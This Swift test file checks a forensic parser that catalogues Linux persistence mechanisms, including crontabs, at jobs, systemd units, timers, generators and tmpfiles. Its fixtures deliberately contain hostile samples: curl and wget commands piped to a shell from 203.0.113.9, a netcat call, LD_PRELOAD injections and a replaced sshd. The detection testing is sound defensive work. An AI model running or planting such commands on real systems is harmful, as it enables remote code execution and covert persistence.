import Artifacts
import CaseModel
import HostFacts
import Testing

@Test func systemCrontabHasAnAccountColumn() {
  let text = """
    SHELL=/bin/sh
    # m h dom mon dow user command
    17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
    @reboot www-data curl -s http://203.0.113.9/x | sh
    this line is no schedule at all
    -*/5 1-3 * jan mon-fri root /bin/true

    """
  let output = runPersistence("cron", "/etc/crontab", bytes: Array(text.utf8))
  let found = persistence(of: output)
  #expect(found.map(\.line) == [1, 3, 4, 6])
  #expect(found[0].attributes == ["SHELL": "/bin/sh"])
  #expect(found[1].mechanism == .cron)
  #expect(found[1].account == "root")
  #expect(found[1].trigger?.text == "17 *\\x09* * *")
  #expect(found[1].command == "cd / && run-parts --report /etc/cron.hourly")
  #expect(found[1].attributes["SHELL"] == "/bin/sh")
  #expect(found[2].trigger == "@reboot")
  #expect(found[2].account == "www-data")
  #expect(found[2].command == "curl -s http://203.0.113.9/x | sh")
  #expect(found[3].trigger == "-*/5 1-3 * jan mon-fri")
  #expect(output.notes.map(\.line) == [5])
  #expect(found[1].modifiedAt == Timestamp(seconds: 1_700_000_000))
  #expect(found[1].changedAt == Timestamp(seconds: 1_700_000_001))
  #expect(found[1].bornAt == Timestamp(seconds: 1_600_000_000))
  #expect(found[1].mode == 0o644 && found[1].uid == 0 && found[1].exhibit == "e1")
}

@Test func spooledCrontabBelongsToTheAccountItIsNamedAfter() {
  let found = persistence(
    "cron", "/var/spool/cron/crontabs/alice", "MAILTO=\"\"\n0 4 * * * /home/alice/b.sh --password=hunter2\n")
  #expect(found.map(\.account) == [nil, "alice"])
  #expect(found[1].command == "/home/alice/b.sh --password=*******")
  #expect(found[1].text.contains("hunter2") == false)
}

@Test(arguments: [(0o755, true), (0o644, false)])
func periodicScriptIsEnabledByItsExecuteBit(mode: Int, isEnabled: Bool) {
  let found = persistence("cron", "/etc/cron.daily/logs", "#!/bin/sh\nset -e\nnc 203.0.113.9 9 &\n", mode: mode)
  #expect(found[0].trigger == "daily")
  #expect(found[0].command == "/etc/cron.daily/logs")
  #expect(found[0].attributes == ["format": "script", "interpreter": "/bin/sh", "lines": "3"])
  #expect(found[0].isEnabled == isEnabled)
  #expect(found[1].line == 3)
  #expect(found[1].attributes["signs"] == "background,network")
}

@Test func anacronJobHasPeriodDelayAndName() {
  let output = runPersistence(
    "anacron", "/etc/anacrontab",
    bytes: Array("RANDOM_DELAY=45\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n@monthly 45 m x\nbroken\n".utf8))
  let found = persistence(of: output)
  #expect(found[0].attributes == ["RANDOM_DELAY": "45"])
  #expect(found[1].trigger == "1")
  #expect(found[1].command == "nice run-parts /etc/cron.daily")
  #expect(found[1].attributes == ["delay": "5", "job": "cron.daily"])
  #expect(found[2].trigger == "@monthly")
  #expect(output.notes.map(\.line) == [4])
}

let atJob = """
  #!/bin/sh
  # atrun uid=1000 gid=1000
  # mail alice 0
  umask 22
  PATH=/usr/bin:/bin; export PATH
  LD_PRELOAD=/tmp/x.so; export LD_PRELOAD
  SECRET_TOKEN=abcdef; export SECRET_TOKEN
  cd /home/alice || {
  \t echo 'Execution directory inaccessible' >&2
  \t exit 1
  }
  ${SHELL:-/bin/sh} << 'marcinDELIMITER1c7f9a3b'
  wget -qO- http://203.0.113.9/a | bash
  marcinDELIMITER1c7f9a3b
  """

@Test func atJobIsWhatWasTypedWithItsTime() {
  let found = persistence("at-job", "/var/spool/cron/atjobs/a0000301c8a4e0", atJob)
  #expect(found.count == 1)
  #expect(found[0].mechanism == .at)
  #expect(found[0].command == "wget -qO- http://203.0.113.9/a | bash")
  #expect(found[0].line == 13)
  #expect(found[0].account == "alice")
  #expect(found[0].trigger?.text == "at \(Timestamp(seconds: 0x1c8a4e0 * 60))")
  #expect(found[0].attributes["queue"] == "a" && found[0].attributes["job"] == "3")
  #expect(found[0].attributes["uid"] == "1000" && found[0].attributes["directory"] == "/home/alice")
  #expect(found[0].attributes["LD_PRELOAD"] == "/tmp/x.so")
  #expect(found[0].attributes["environment"]?.contains("SECRET_TOKEN") == true)
  #expect(found[0].attributes.values.contains { $0.contains("abcdef") } == false)
}

@Test func otherFilesInTheSpoolAreNoted() {
  let output = runPersistence("at-job", "/var/spool/cron/atjobs/.SEQ", bytes: Array("0000a\n".utf8))
  #expect(output.facts.isEmpty && output.notes.count == 1)
}

@Test func unitHasARecordForEachCommandWithAllSettings() {
  let text = """
    [Unit]
    Description=Sync
    ; a comment
    [Service]
    Type=simple
    User=backup
    Environment="A=1" B=2
    Environment=LD_PRELOAD=/tmp/p.so
    ExecStartPre=-/bin/mkdir -p /run/x
    ExecStart=@/usr/bin/sync sync \\
    # inside
      --all
    ExecStop=+/bin/kill $MAINPID
    Restart=always
    [Install]
    WantedBy=multi-user.target
    """
  let found = persistence("systemd-unit", "/etc/systemd/system/sync.service", text)
  #expect(found.map { $0.attributes["directive"] } == ["ExecStartPre", "ExecStart", "ExecStop"])
  #expect(found.map(\.line) == [9, 10, 13])
  #expect(found[0].command == "/bin/mkdir -p /run/x" && found[0].attributes["prefixes"] == "-")
  #expect(found[1].command == "/usr/bin/sync sync --all")
  #expect(found[1].mechanism == .systemdUnit && found[1].account == "backup")
  #expect(found[1].trigger == "WantedBy=multi-user.target")
  #expect(found[1].attributes["Environment"] == "\"A=1\" B=2; LD_PRELOAD=/tmp/p.so")
  #expect(found[1].attributes["Restart"] == "always" && found[1].attributes["unit"] == "sync.service")
  #expect(found[1].attributes["scope"] == "system")
  #expect(found[2].account == "root")
}

@Test func dropInSaysWhichUnitItChangesAndWhatItResets() {
  let found = persistence(
    "systemd-unit", "/etc/systemd/system/ssh.service.d/10-x.conf", "[Service]\nExecStart=\nExecStart=/tmp/sshd -D\n")
  #expect(found.count == 1)
  #expect(found[0].mechanism == .systemdDropIn)
  #expect(found[0].attributes["unit"] == "ssh.service" && found[0].attributes["resets"] == "ExecStart")
  #expect(found[0].command == "/tmp/sshd -D")
}

@Test func unitsWithoutCommandsHaveOneRecord() {
  let path = persistence(
    "systemd-unit", "/etc/systemd/system/w.path", "[Path]\nPathModified=/etc/passwd\nUnit=w.service\n")
  #expect(path.map(\.trigger) == ["PathModified=/etc/passwd"])
  let socket = persistence(
    "systemd-unit", "/home/a/.config/systemd/user/w.socket", "[Socket]\nListenStream=4444\n", account: "a")
  #expect(socket.map(\.trigger) == ["ListenStream=4444"])
  #expect(socket[0].attributes["scope"] == "user" && socket[0].account == "a")
  let masked = persistence("systemd-unit", "/etc/systemd/system/auditd.service", "")
  #expect(masked.map(\.isEnabled) == [false])
}

@Test func timerNamesItsUnitAndTimes() {
  let found = persistence(
    "systemd-timer", "/etc/systemd/system/job.timer", "[Timer]\nOnBootSec=1min\nOnCalendar=*:0/5\nPersistent=true\n")
  #expect(found.count == 1 && found[0].mechanism == .systemdTimer)
  #expect(found[0].trigger == "OnBootSec=1min; OnCalendar=*:0/5")
  #expect(found[0].attributes["Unit"] == "job.service" && found[0].attributes["Persistent"] == "true")
  let other = persistence(
    "systemd-timer", "/etc/systemd/system/job.timer", "[Timer]\nOnCalendar=daily\nUnit=x.service\n")
  #expect(other[0].attributes["Unit"] == "x.service")
}

@Test func managerSettingsPresetsAndEnvironmentAreRecords() {
  let conf = persistence(
    "systemd-conf", "/etc/systemd/system.conf", "[Manager]\n#LogLevel=info\nDefaultEnvironment=LD_PRELOAD=/x.so\n")
  #expect(conf.map(\.line) == [3])
  #expect(conf[0].attributes == ["section": "Manager", "DefaultEnvironment": "LD_PRELOAD=/x.so"])
  #expect(conf[0].mechanism == .systemdSettings && conf[0].trigger == "boot")
  let environment = persistence("systemd-conf", "/etc/environment.d/9.conf", "PATH=/tmp:$PATH\n")
  #expect(environment[0].attributes == ["PATH": "/tmp:$PATH"] && environment[0].trigger == "session")
  let preset = persistence("systemd-conf", "/etc/systemd/system-preset/1.preset", "enable evil.service\n")
  #expect(preset[0].attributes == ["enable": "evil.service"])
}

@Test func generatorIsScriptOrProgram() {
  let script = persistence("systemd-generator", "/etc/systemd/system-generators/g", "#!/bin/bash\necho\n", mode: 0o755)
  #expect(script[0].attributes["format"] == "script" && script[0].trigger == "boot" && script[0].isEnabled == true)
  let elf = persistence(
    of: runPersistence("systemd-generator", "/lib/systemd/user-generators/g", bytes: [0x7f, 0x45, 0x4c, 0x46, 0, 0]))
  #expect(elf.map { $0.attributes["format"] } == ["elf"] && elf[0].trigger == "login" && elf[0].isEnabled == false)
}

@Test func tmpfilesLineIsSplitIntoFields() {
  let output = runPersistence(
    "tmpfiles", "/etc/tmpfiles.d/x.conf",
    bytes: Array("f+ /etc/cron.d/x 0644 root root - * * * * * root /tmp/x\n/bad\n".utf8))
  let found = persistence(of: output)
  #expect(
    found[0].attributes == [
      "type": "f+", "target": "/etc/cron.d/x", "mode": "0644", "user": "root", "group": "root", "age": "-",
      "argument": "* * * * * root /tmp/x",
    ])
  #expect(found.count == 1 && output.notes.map(\.line) == [2])
}
